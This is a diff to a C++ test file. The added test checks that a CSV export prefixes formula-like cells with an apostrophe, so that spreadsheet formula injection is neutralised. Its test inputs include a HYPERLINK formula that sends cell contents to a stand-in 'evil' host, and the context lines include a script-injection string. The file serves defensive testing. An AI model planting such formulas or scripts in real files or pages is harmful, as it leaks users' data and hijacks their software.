@@ -311,6 +311,37 @@ TEST_CASE("a table has a row for each intervention, and nothing in it is a formu
   CHECK(std::count(file.begin(), file.end(), '\r') == 5);
 }
 
+TEST_CASE("a table is free of formulas also where cells end at semicolons, tabs or line breaks") {
+  const std::string ordinary = "Costs: 5-7 days; see \"annex\" (a = b), write to ana@example.org\nand so on.";
+  WrittenLog log;
+  log.submit("Thank you;=HYPERLINK(\"http://evil/?\"&A1);and\n=1+1;x\n@SUM(1);y");
+  log.submit("a\t-2\r\n+3; \"=4\";\t=5\n\"\"@6;＝7;\n\n=8;;=9", "@who;=10");
+  log.submit(ordinary);
+  log.submit("First:\n- item");
+  const std::string file = exported(log, Audience::public_, csv_export);
+  std::string cell;
+  int cells = 0;
+  for (const char c : file + "\n") {
+    if (std::string_view(";\t\r\n").find(c) == std::string_view::npos) {
+      cell += c;
+      continue;
+    }
+    const auto first = std::min(cell.find_first_not_of(" \""), cell.size());
+    const std::string seen = cell.substr(first);
+    for (const char* sign : {"=", "+", "-", "@", "＝", "＋", "－", "＠"}) {
+      INFO(cell);
+      CHECK_FALSE(seen.starts_with(sign));
+    }
+    ++cells;
+    cell.clear();
+  }
+  CHECK(cells > 20);
+  CHECK(tells(file, "\"Thank you;'=HYPERLINK(\"\"http://evil/?\"\"&A1);and\n'=1+1;x\n'@SUM(1);y\""));
+  CHECK(tells(file, "Name of @who;'=10"));
+  CHECK(tells(file, "Costs: 5-7 days; see \"\"annex\"\" (a = b), write to ana@example.org\nand so on."));
+  CHECK(tells(file, "\"First:\n'- item\""));
+}
+
 TEST_CASE("a page shows every text as it was written, whatever it tries to be") {
   const std::string hostile = "<script>alert(1)</script> \"'&lt; {{words.record}} {{{style}}} </div><b>";
   WrittenLog log;
